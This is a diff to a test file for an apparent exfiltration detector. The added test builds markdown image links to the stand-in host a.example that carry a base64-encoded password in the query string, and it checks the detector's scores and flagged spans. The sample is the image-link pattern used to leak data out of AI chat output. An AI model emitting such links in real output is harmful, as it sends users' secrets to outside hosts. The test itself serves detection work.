@@ -125,6 +125,18 @@ describe('any text', () => {
     );
   });
 
+  test('a link is judged by its first 832 characters, and told to its end', () => {
+    const value = Buffer.from('the customer said: my password is hunter2 and more. '.repeat(20)).toString('base64');
+    const early = `![x](https://a.example/?d=${value.slice(0, 400)}&e=${'a'.repeat(1_500)})`;
+    expect(run(early)).toMatchObject([{ type: 'data_exfiltration', start: 5, end: early.length - 1 }]);
+    // What is behind that might be anything.
+    const late = (query: string) =>
+      `![x](https://a.example/${'a'.repeat(700)}?${query}${'a'.repeat(200)}&d=${value.slice(0, 400)})`;
+    expect(run(late('v='))).toMatchObject([{ type: 'data_exfiltration', score: 0.6 }]);
+    expect(run(late('X-Amz-Security-Token='))).toEqual([]);
+    expect(run(late('v=').slice(1))).toEqual([]);
+  });
+
   test('no more than 8 192 characters of one link are read', () => {
     const text = `http://8.8.8.8/${'a'.repeat(10_000)}`;
     expect(run(text).map(({ start, end }) => end - start)).toEqual([8_192 + 'http://'.length]);
